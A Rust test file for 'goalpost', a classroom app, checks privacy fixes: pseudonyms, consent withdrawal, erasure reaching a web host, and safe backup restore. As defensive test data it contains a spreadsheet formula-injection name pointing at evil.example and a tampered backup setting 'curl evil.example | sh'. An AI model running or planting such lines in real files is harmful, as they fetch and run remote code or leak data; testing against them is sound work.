//! Issue 12: what families refused stays refused, whenever they refused it. One test per
//! leak the issue reproduced on a class that changes between syncs, each through the
//! `goalpost` command line as a teacher runs it:
//!
//! 1. a pseudonymised child's real name in a classmate's words;
//! 2. a child without name consent who names themself;
//! 3. blog consent withdrawn after the child was named in a published post;
//! 4. an erasure followed by a hand-run `blog build`: the web host must still hear of it
//!    (and a blog build that fails half-way, finished by hand);
//! 5. two siblings sharing a contact: the younger's evidence after the elder's erasure;
//! 6. a name that a spreadsheet would run as a formula.
//!
//! Each failed on the code before issue 12 (see the issue's report). The year-long random
//! sequence is `tests/privacy_year.rs`.

mod backup_support;
mod common;
mod privacy_support;

use std::collections::BTreeSet;

use privacy_support::{emails, files, naming, Class};

/// The published places: the local blog folder and the host a copying publish command
/// keeps.
fn published(c: &Class) -> [(&'static str, std::path::PathBuf); 2] {
    [("blog folder", c.blog()), ("web host", c.host.clone())]
}

fn assert_nowhere(c: &Class, name: &str) {
    for (what, dir) in published(c) {
        let f = files(&dir);
        assert!(!f.is_empty(), "the {what} was published");
        let found = naming(&f, name);
        assert!(found.is_empty(), "{name} on the {what}: {found:?}");
    }
}

/// The evidence's row in `review list --all`, if it is listed.
fn review_row(c: &Class, evidence: i64) -> Option<serde_json::Value> {
    let list = c.json(&["review", "list", "--all"]);
    list.as_array()
        .unwrap()
        .iter()
        .find(|v| v["id"] == evidence)
        .cloned()
}

fn mentions(c: &Class, evidence: i64) -> Vec<serde_json::Value> {
    review_row(c, evidence)
        .map(|v| v["mentions"].as_array().unwrap().clone())
        .unwrap_or_default()
}

fn status(c: &Class, evidence: i64) -> String {
    review_row(c, evidence).unwrap()["status"]
        .as_str()
        .unwrap()
        .to_string()
}

#[test]
fn a_pseudonymised_childs_real_name_in_a_classmates_words_shows_as_the_pseudonym() {
    let c = Class::new();
    let mei = c.student("Mei", "Chen", [true; 4]);
    c.student("Zoë", "Müller", [true; 4]);
    let aroha = c.student("Aroha", "Ngata", [true; 4]);
    c.contact("Hine Rewi", "hine@family.example", aroha, "email");
    c.contact("Koro Rewi", "koro@family.example", aroha, "paper");
    c.contact("Lin Wu", "lin@family.example", mei, "email");
    c.publish_to_host();
    c.run(&["student", "edit", "Mei", "--pseudonym", "Star"]);

    let g = c.goal(aroha, "I can build a bridge with Mei", "Science");
    let e = c.evidence(aroha, g, "Mei and Zoë helped me. mei is fast!", Some(1));
    // Review points it out, and `approve --all` leaves it waiting.
    let m = mentions(&c, e);
    assert!(
        m.iter()
            .any(|m| m["student_id"] == mei && m["reason"] == "pseudonym" && m["found"] == "Mei"),
        "{m:?}"
    );
    c.run(&["review", "approve", "--all"]);
    assert_eq!(status(&c, e), "waiting");
    c.approve(e);
    c.sync();

    assert_nowhere(&c, "Mei");
    let post = std::fs::read_to_string(c.blog().join(format!("posts/e{e}.html"))).unwrap();
    assert!(
        post.contains("Star and Zoë helped me. Star is fast!"),
        "{post}"
    );
    assert!(post.contains("I can build a bridge with Star"), "{post}");
    // Every family's message, on email and on paper.
    let sent = emails(&c.outbox());
    assert!(!sent.is_empty());
    let found = naming(&sent, "Mei");
    assert!(found.is_empty(), "Mei in an email: {found:?}");
    assert!(sent.values().any(|t| t.contains("Star and Zoë helped me")));
    let slips = files(&c.print());
    assert!(!slips.is_empty());
    assert!(naming(&slips, "Mei").is_empty(), "Mei on a slip");
}

#[test]
fn a_child_without_name_consent_who_names_themself_is_not_named_on_the_blog() {
    let c = Class::new();
    let tui = c.student("Tūī", "Ngata", [true, false, true, true]);
    c.student("Sione", "Taufa", [true; 4]);
    c.publish_to_host();
    let e = c.achieve(
        tui,
        "I can tie my shoes",
        "Tui did it all by herself",
        Some(2),
    );
    assert!(mentions(&c, e)
        .iter()
        .any(|m| m["reason"] == "no_name_consent"));
    c.sync();
    assert_nowhere(&c, "Tūī");
    let post = std::fs::read_to_string(c.blog().join(format!("posts/e{e}.html"))).unwrap();
    assert!(post.contains("A classmate did it all by herself"), "{post}");
}

#[test]
fn blog_consent_withdrawn_after_publication_rewrites_the_pages_that_named_the_child_and_only_those()
{
    let c = Class::new();
    c.student("Zoë", "Müller", [true; 4]);
    let aroha = c.student("Aroha", "Ngata", [true; 4]);
    let sione = c.student("Sione", "Taufa", [true; 4]);
    c.publish_to_host();
    c.achieve(sione, "I can count by 5s", "Counting is fun", Some(3));
    c.achieve(
        aroha,
        "I can measure",
        "Zoë helped me measure the table",
        Some(4),
    );
    c.sync();
    let before = files(&c.blog());
    let named: BTreeSet<String> = naming(&before, "Zoë").into_iter().collect();
    assert!(named.len() >= 5, "Zoë is on the blog: {named:?}");

    c.later(7);
    c.run(&[
        "consent",
        "set",
        "Zoë",
        "blog",
        "no",
        "--given-by",
        "mother",
    ]);
    let s = c.sync();
    assert_nowhere(&c, "Zoë");
    let written: BTreeSet<String> = s["blog"]["written"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap().to_string())
        .collect();
    assert_eq!(
        written, named,
        "exactly the pages that named her were written"
    );
    assert_eq!(s["blog"]["removed"].as_array().unwrap().len(), 0);
    assert_eq!(s["publish"]["ok"], true, "and published");
}

#[test]
fn an_erasure_then_a_blog_build_by_hand_still_reaches_the_web_host() {
    let c = Class::new();
    let sione = c.student("Sione", "Taufa", [true; 4]);
    let aroha = c.student("Aroha", "Ngata", [true; 4]);
    c.publish_to_host();
    c.achieve(aroha, "I can read", "I read a book", Some(5));
    let e = c.achieve(sione, "I can swim", "I swam a length", Some(6));
    c.sync();
    let page = format!("posts/e{e}.html");
    assert!(c.host.join(&page).is_file());
    let media: Vec<String> = files(&c.host)
        .into_keys()
        .filter(|p| p.starts_with("media/"))
        .collect();

    c.run(&["student", "remove", "Sione"]);
    c.run(&["blog", "build"]);
    assert!(!c.blog().join(&page).exists(), "the local folder is clean");
    let s = c.sync();
    assert_eq!(s["publish"]["ok"], true, "the sync published: {s}");
    assert!(
        !c.host.join(&page).exists(),
        "the host no longer has the page"
    );
    assert_nowhere(&c, "Sione");
    let host_media: BTreeSet<String> = files(&c.host)
        .into_keys()
        .filter(|p| p.starts_with("media/"))
        .collect();
    assert!(host_media.len() < media.len(), "his photo left the host");
    let blog_media: BTreeSet<String> = files(&c.blog())
        .into_keys()
        .filter(|p| p.starts_with("media/"))
        .collect();
    assert_eq!(host_media, blog_media);
}

#[test]
fn a_blog_build_that_failed_half_way_is_published_by_the_next_sync() {
    let c = Class::new();
    let aroha = c.student("Aroha", "Ngata", [true; 4]);
    c.publish_to_host();
    c.achieve(aroha, "I can read", "I read a book", None);
    c.sync();
    // The next post's page cannot be written (something else is in its place): the sync
    // fails in its blog step, after the folder started changing.
    let e = c.achieve(aroha, "I can write", "I wrote a story", None);
    let page = c.blog().join(format!("posts/e{e}.html"));
    std::fs::create_dir_all(page.join("in-the-way")).unwrap();
    c.cmd().arg("sync").assert().failure();
    std::fs::remove_dir_all(&page).unwrap();
    // The teacher builds by hand, then syncs: the host gets what changed.
    c.run(&["blog", "build"]);
    assert!(page.is_file());
    let s = c.sync();
    assert_eq!(s["publish"]["ok"], true, "{s}");
    assert!(c.host.join(format!("posts/e{e}.html")).is_file());
    assert!(!c.data.join("publish.pending").exists());
}

#[test]
fn a_younger_sibling_is_heard_of_after_the_elder_was_erased() {
    let c = Class::new();
    let ana = c.student("Ana", "Lopez", [true; 4]);
    let ben = c.student("Ben", "Lopez", [true; 4]);
    let rua = c.contact("Rua Tane", "rua@family.example", ana, "email");
    c.run(&["contact", "link", &rua.to_string(), &ben.to_string()]);
    let ben_goal = c.goal(ben, "I can skip count by 3s", "Maths");
    c.achieve(ana, "I can spell my name", "I spelled it", None);
    let s = c.sync();
    assert_eq!(s["mail"]["sent"], 1, "{s}");

    c.run(&["student", "remove", "Ana"]);
    c.later(1);
    let e = c.evidence(ben, ben_goal, "3, 6, 9, 12", None);
    c.approve(e);
    let s = c.sync();
    assert_eq!(s["mail"]["sent"], 1, "the family hears of Ben: {s}");
    let sent = emails(&c.outbox());
    assert!(
        sent.values().any(|t| t.contains("I can skip count by 3s")),
        "{sent:?}"
    );
}

#[test]
fn a_name_a_spreadsheet_would_run_is_exported_as_text_and_imported_as_typed() {
    let c = Class::new();
    let typed = [
        r#"=HYPERLINK("http://evil.example/?x","click")"#,
        "+64 Kai",
        "-Mia",
        "@Noa",
        "'Ilima",
        "O'Brien",
        "ʻAkau",
        "'=not a formula",
    ];
    for (i, first) in typed.iter().enumerate() {
        c.run(&[
            "student",
            "add",
            &format!("--first-name={first}"),
            &format!("--last-name=Family{i}"),
        ]);
    }
    let csv_path = c.root.join("roster.csv");
    c.run(&["roster", "export", csv_path.to_str().unwrap()]);
    let bytes = std::fs::read(&csv_path).unwrap();
    let mut rdr = csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap());
    let mut firsts = Vec::new();
    for rec in rdr.records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?}"
            );
        }
        firsts.push(rec[0].to_string());
    }
    assert!(firsts.contains(&format!("'{}", typed[0])), "{firsts:?}");
    assert!(firsts.contains(&"'Ilima".to_string()), "{firsts:?}");
    assert!(firsts.contains(&"ʻAkau".to_string()), "{firsts:?}");

    // Imported into another class, every name is as it was typed.
    let other = Class::new();
    other.run(&["roster", "import", csv_path.to_str().unwrap()]);
    let names: BTreeSet<String> = other
        .json(&["student", "list"])
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["first_name"].as_str().unwrap().to_string())
        .collect();
    let want: BTreeSet<String> = typed.iter().map(|s| s.to_string()).collect();
    assert_eq!(names, want);
}

#[test]
fn the_publish_command_runs_without_the_smtp_password() {
    let c = Class::new();
    let aroha = c.student("Aroha", "Ngata", [true; 4]);
    c.achieve(aroha, "I can read", "I read a book", None);
    let seen = c.root.join("publish-env.txt");
    let cmd = format!(
        "printf '%s' \"${{GOALPOST_SMTP_PASSWORD-none}}\" > '{}'",
        seen.display()
    );
    c.run(&["config", "set", "blog.publish_command", &cmd]);
    c.cmd()
        .env("GOALPOST_SMTP_PASSWORD", "s3cret-for-the-mail-server")
        .arg("sync")
        .assert()
        .success();
    assert_eq!(std::fs::read_to_string(&seen).unwrap(), "none");
}

/// A class as the schema before issue 12 kept it (version 4, ids given again), that met the
/// sibling bug: the elder's evidence 1 was sent to the shared contact, the elder was erased,
/// and the younger's evidence took id 1, which the shared contact never heard of. Student 7
/// was erased earlier still, and only the erasure list names them.
fn class_before_issue_12(dir: &std::path::Path) {
    use rusqlite::Connection;
    std::fs::create_dir_all(dir).unwrap();
    let mut conn = Connection::open(dir.join("goalpost.sqlite3")).unwrap();
    goalpost::store::configure(&conn).unwrap();
    goalpost::store::migrations()
        .to_version(&mut conn, 4)
        .unwrap();
    conn.pragma_update(None, "application_id", goalpost::store::APPLICATION_ID)
        .unwrap();
    let at = "2026-11-02 09:00:00+00:00";
    conn.execute_batch(&format!(
        "INSERT INTO class (id, school, class_name, teacher, teacher_email, language, timezone, created_at)
           VALUES (1, 'Kōwhai Primary', 'Room 7', 'Ms Te Rangi', 'room7@school.example', 'en', 'Pacific/Auckland', '{at}');
         INSERT INTO students (id, first_name, last_name, created_at) VALUES
           (1, 'Ana', 'Lopez', '{at}'), (2, 'Ben', 'Lopez', '{at}');
         INSERT INTO consents (student_id, purpose, granted, given_by, given_at)
           SELECT s.id, p.p, 1, 'mother', '{at}' FROM students s,
             (SELECT 'blog' AS p UNION ALL SELECT 'name_on_blog' UNION ALL SELECT 'photo_on_blog'
              UNION ALL SELECT 'email_family') p;
         INSERT INTO contacts (id, name, email, language, channel, created_at) VALUES
           (1, 'Rua Tane', 'rua@family.example', 'en', 'email', '{at}'),
           (2, 'Mere Lopez', 'mere@family.example', 'en', 'email', '{at}');
         INSERT INTO student_contacts (student_id, contact_id, relationship, linked_at) VALUES
           (1, 1, 'father', '{at}'), (2, 1, 'father', '{at}'), (2, 2, 'mother', '{at}');
         INSERT INTO goals (id, student_id, title, subject, status, created_at, achieved_at) VALUES
           (1, 1, 'I can spell my name', 'Writing', 'achieved', '{at}', '{at}'),
           (2, 2, 'I can skip count by 3s', 'Maths', 'achieved', '{at}', '{at}'),
           (3, 2, 'I can skip count by 4s', 'Maths', 'current', '{at}', NULL);
         UPDATE goals SET next_goal_id = 3 WHERE id = 2;
         INSERT INTO evidence (id, student_id, goal_id, words, status, submitted_at, reviewed_at)
           VALUES (1, 1, 1, 'I spelled it', 'approved', '{at}', '{at}');
         INSERT INTO deliveries (id, contact_id, kind, subject_key, channel, message_id, status, created_at, sent_at)
           VALUES (1, 1, 'evidence', 'evidence:1', 'email', '<goalpost.evidence.1.c1.x@school.example>', 'sent', '{at}', '{at}');
         INSERT INTO delivery_items (delivery_id, evidence_id) VALUES (1, 1);
         DELETE FROM students WHERE id = 1;
         INSERT INTO evidence (id, student_id, goal_id, words, status, submitted_at, reviewed_at)
           VALUES (1, 2, 2, '3, 6, 9, 12', 'approved', '{at}', '{at}');
         INSERT INTO deliveries (id, contact_id, kind, subject_key, channel, message_id, status, created_at, sent_at)
           VALUES (2, 2, 'evidence', 'evidence:1', 'email', '<goalpost.evidence.1.c2.x@school.example>', 'sent', '{at}', '{at}');
         INSERT INTO delivery_items (delivery_id, evidence_id) VALUES (2, 1);"
    ))
    .unwrap();
    std::fs::write(
        dir.join("erasures"),
        format!(
            "{{\"student_id\":7,\"added_at\":\"{at}\",\"erased_at\":\"2026-10-01T00:00:00Z\"}}\n\
             {{\"student_id\":1,\"added_at\":\"{at}\",\"erased_at\":\"2026-11-10T00:00:00Z\"}}\n"
        ),
    )
    .unwrap();
}

#[test]
fn the_migration_never_gives_an_id_again_and_the_sibling_the_bug_skipped_is_heard_of() {
    let d = tempfile::tempdir().unwrap();
    let data = d.path().join("class");
    class_before_issue_12(&data);
    let gp = goalpost::Goalpost::open(&data)
        .unwrap()
        .with_clock(goalpost::Clock::fixed(common::now()));
    let conn = gp.store().conn();
    let version: i64 = conn
        .pragma_query_value(None, "user_version", |r| r.get(0))
        .unwrap();
    assert_eq!(version as usize, goalpost::store::latest_version());
    // The rebuilt tables keep their rows, references, indexes and checks.
    let fk_on: i64 = conn
        .pragma_query_value(None, "foreign_keys", |r| r.get(0))
        .unwrap();
    assert_eq!(fk_on, 1);
    assert!(goalpost::store::integrity_problems(conn)
        .unwrap()
        .is_empty());
    let broken: i64 = conn
        .query_row("SELECT count(*) FROM pragma_foreign_key_check", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(broken, 0);
    for t in ["students", "contacts", "goals", "evidence"] {
        let sql: String = conn
            .query_row(
                "SELECT sql FROM sqlite_schema WHERE type = 'table' AND name = ?1",
                [t],
                |r| r.get(0),
            )
            .unwrap();
        assert!(sql.contains("AUTOINCREMENT"), "{t}: {sql}");
    }
    for index in [
        "contacts_email",
        "goals_student",
        "evidence_student",
        "evidence_status",
        "evidence_photo",
    ] {
        let n: i64 = conn
            .query_row(
                "SELECT count(*) FROM sqlite_schema WHERE type = 'index' AND name = ?1",
                [index],
                |r| r.get(0),
            )
            .unwrap();
        assert_eq!(n, 1, "{index}");
    }
    let refs = |t: &str| -> Vec<String> {
        let mut s = conn
            .prepare(&format!(
                "SELECT \"table\" || '.' || \"to\" || ' ' || on_delete FROM pragma_foreign_key_list('{t}') ORDER BY 1"
            ))
            .unwrap();
        s.query_map([], |r| r.get(0))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    assert_eq!(
        refs("evidence"),
        [
            "goals.id CASCADE",
            "photos.hash NO ACTION",
            "students.id CASCADE"
        ]
    );
    assert_eq!(refs("goals"), ["goals.id SET NULL", "students.id CASCADE"]);
    assert_eq!(
        refs("student_contacts"),
        ["contacts.id CASCADE", "students.id CASCADE"]
    );
    assert_eq!(
        refs("delivery_items"),
        ["deliveries.id CASCADE", "evidence.id CASCADE"]
    );
    assert_eq!(gp.goal(2).unwrap().next_goal_id, Some(3));
    assert_eq!(gp.students().unwrap().len(), 1);
    assert_eq!(gp.contacts().unwrap().len(), 2);

    // Ben's evidence, which had taken the freed id 1, has an id of its own; the delivery
    // that did cover it (to his mother) follows it.
    let ben = gp.evidence_list(None).unwrap();
    assert_eq!(ben.len(), 1);
    let moved = ben[0].evidence.id;
    assert!(moved > 1, "{moved}");
    let covered: Vec<i64> = goalpost::store::outbox::list(conn, false)
        .unwrap()
        .into_iter()
        .filter(|d| d.contact_id == 2)
        .flat_map(|d| d.evidence_ids)
        .collect();
    assert_eq!(covered, [moved]);

    // No id is given again: not a freed one the erasure list or the outbox names.
    let newcomer = gp.add_student("Wiremu", "Kingi", None).unwrap();
    assert!(newcomer.id > 7, "{}", newcomer.id);
    let g = gp.add_goal(newcomer.id, "I can hop", "PE", None).unwrap();
    assert!(g.id > 3);
    let e = gp.add_evidence(newcomer.id, g.id, None, "hop", "").unwrap();
    assert!(e.id > moved);

    // The shared contact now hears of Ben, his mother does not hear twice.
    let (queued, _) = gp.mail_queue().unwrap();
    assert_eq!(queued.emails, 1, "{queued:?}");
    let rua: Vec<_> = goalpost::store::outbox::list(conn, false)
        .unwrap()
        .into_iter()
        .filter(|d| d.contact_id == 1 && d.status == goalpost::store::outbox::Status::Queued)
        .collect();
    assert_eq!(rua.len(), 1);
    assert_eq!(rua[0].evidence_ids, [moved]);
    // And the references still cascade: erasing Ben takes his goals and evidence.
    gp.remove_student(2).unwrap();
    assert!(gp.goals(None).unwrap().iter().all(|g| g.student_id != 2));
}

/// Issue 12, part 4: an erasure also removes the child's goal sheets and their rows in the
/// roster exports; one whose file cannot be removed yet (here a folder stands where a
/// goal sheet is, as a file held open on Windows would) is noted and finished later, by
/// `student remove` again or by the next sync.
#[test]
fn an_erasure_leaves_no_goal_sheet_or_roster_row_and_can_be_finished() {
    let c = Class::new();
    let sione = c.student("Sione", "Taufa", [true; 4]);
    let mele = c.student("Mele", "Havili", [true; 4]);
    let aroha = c.student("Aroha", "Ngata", [true; 4]);
    c.contact("Hine Rewi", "hine@family.example", aroha, "email");
    for s in [sione, mele, aroha] {
        c.achieve(s, "I can skip", "I skipped", Some(s as u32));
    }
    c.sync();
    let exports = c.data.join("exports");
    std::fs::create_dir_all(&exports).unwrap();
    let export = exports.join("roster-20261120-090000.csv");
    c.run(&["roster", "export", export.to_str().unwrap()]);
    let sheet = |id: i64| c.print().join(format!("goal-sheet-s{id}-en.html"));
    for s in [sione, mele, aroha] {
        c.run(&["print", "goal-sheet", &s.to_string()]);
        assert!(sheet(s).is_file());
    }
    let hold = |p: &std::path::Path| {
        std::fs::remove_file(p).unwrap();
        std::fs::create_dir_all(p.join("held")).unwrap();
    };
    let release = |p: &std::path::Path, name: &str| {
        std::fs::remove_dir_all(p).unwrap();
        std::fs::write(p, format!("<h1>{name}'s goals</h1>")).unwrap();
    };

    // Sione: erased, but his goal sheet is held.
    hold(&sheet(sione));
    let out = c
        .cmd()
        .args(["student", "remove", "Sione"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("is noted"), "{err}");
    assert!(err.contains("student remove"), "{err}");
    let roster = std::fs::read_to_string(&export).unwrap();
    assert!(
        !roster.contains("Sione") && !roster.contains("Taufa"),
        "{roster}"
    );
    assert!(
        roster.contains("Aroha") && roster.contains("Mele"),
        "{roster}"
    );
    // Still held: `student remove` again says so; once released, it finishes.
    c.cmd()
        .args(["student", "remove", "Sione"])
        .assert()
        .failure();
    release(&sheet(sione), "Sione");
    let out = c.run(&["student", "remove", "Sione"]);
    assert!(out.contains("finished the erasure"), "{out}");
    assert!(!sheet(sione).exists());
    let out = c
        .cmd()
        .args(["student", "remove", "Sione"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no student"));

    // Mele: the same, finished by the next sync, which reports it until then.
    hold(&sheet(mele));
    c.cmd()
        .args(["student", "remove", "Mele"])
        .assert()
        .failure();
    let out = c.cmd().args(["sync", "--json"]).output().unwrap();
    assert!(
        !out.status.success(),
        "an unfinished erasure fails the sync"
    );
    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(s["erasures_unfinished"].as_array().unwrap().len(), 1, "{s}");
    release(&sheet(mele), "Mele");
    let s = c.sync();
    assert!(s["erasures_unfinished"].is_null(), "{s}");
    assert!(!sheet(mele).exists());
    assert!(sheet(aroha).is_file(), "another child's sheet stays");
    let left: Vec<String> = files(&c.data)
        .into_iter()
        .filter(|(p, text)| {
            !p.starts_with("goalpost.sqlite3")
                && (privacy_support::names(text, "Sione") || privacy_support::names(text, "Mele"))
        })
        .map(|(p, _)| p)
        .collect();
    assert!(left.is_empty(), "files that still name them: {left:?}");
}

/// Issue 12, part 6: a backup may come from anywhere. Its settings pass the checks of
/// `config set`; the publish command and the mail server stay off after the restore until
/// the teacher enters them again, and `restore` says so (text and `--json`).
#[test]
fn a_restored_backup_runs_no_command_and_sends_no_mail_until_the_teacher_enters_them_again() {
    let c = Class::new();
    let aroha = c.student("Aroha", "Ngata", [true; 4]);
    c.contact("Hine Rewi", "hine@family.example", aroha, "email");
    c.achieve(aroha, "I can read", "I read a book", None);
    let ran = c.root.join("publish-ran.txt");
    let cmd = format!("echo ran >> '{}'", ran.display());
    c.run(&["config", "set", "blog.publish_command", &cmd]);
    // A mail server nothing listens on: a sync that used it would fail to send.
    c.run(&["config", "set", "smtp.url", "smtp://127.0.0.1:9"]);
    c.run(&["config", "set", "photo.quality", "60"]);
    c.run(&[
        "config",
        "set",
        "blog.site_url",
        "https://school.example/room7",
    ]);
    let backup = c.root.join("room7.goalpost");
    c.run(&["backup", backup.to_str().unwrap()]);
    // What `config set` would refuse, put into the backup by another program (which made
    // its manifest match again: the hashes prove the file whole, not where it came from).
    backup_support::change_database(
        &backup,
        "UPDATE settings SET value = '120' WHERE key = 'photo.quality';
         INSERT INTO settings (key, value) VALUES ('mail.weekly_day', 'someday'),
           ('shell.on_open', 'curl evil.example | sh');",
    );

    let text = c.run(&["restore", backup.to_str().unwrap()]);
    for key in ["blog.publish_command", "smtp.url"] {
        assert!(
            text.contains(&format!("{key} is off until you enter it again"))
                && text.contains(&format!("goalpost config set {key}")),
            "{text}"
        );
    }
    for key in ["photo.quality", "mail.weekly_day", "shell.on_open"] {
        assert!(
            text.contains(&format!("The setting {key} of the backup was left out")),
            "{text}"
        );
    }
    let r = c.json(&["restore", backup.to_str().unwrap()]);
    assert_eq!(
        r["settings_off"],
        serde_json::json!(["blog.publish_command", "smtp.url"]),
        "{r}"
    );
    let refused: BTreeSet<&str> = r["settings_refused"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["key"].as_str().unwrap())
        .collect();
    assert_eq!(
        refused,
        BTreeSet::from(["photo.quality", "mail.weekly_day", "shell.on_open"])
    );
    assert!(r["previous_saved_to"].is_string() && r["erased_again"].is_array());

    // Off: the defaults, and what passed the checks is back.
    let settings = c.json(&["config", "list"]);
    let value = |key: &str| {
        settings
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["key"] == key)
            .map(|s| s["value"].clone())
            .unwrap()
    };
    assert!(value("blog.publish_command").is_null());
    assert!(value("smtp.url").is_null());
    assert_eq!(value("photo.quality"), "80");
    assert_eq!(value("mail.weekly_day"), "friday");
    assert_eq!(value("blog.site_url"), "https://school.example/room7/");

    // The sync runs no command and writes the family's email to the outbox folder.
    let s = c.sync();
    assert!(s["publish"].is_null(), "{s}");
    assert!(!ran.exists(), "the publish command ran after the restore");
    assert_eq!(emails(&c.outbox()).len(), 1, "{s}");
    // Entered again, it runs (the blog changed since it last ran: the mark waited).
    c.run(&["config", "set", "blog.publish_command", &cmd]);
    let s = c.sync();
    assert_eq!(s["publish"]["ok"], true, "{s}");
    assert!(ran.is_file());
}
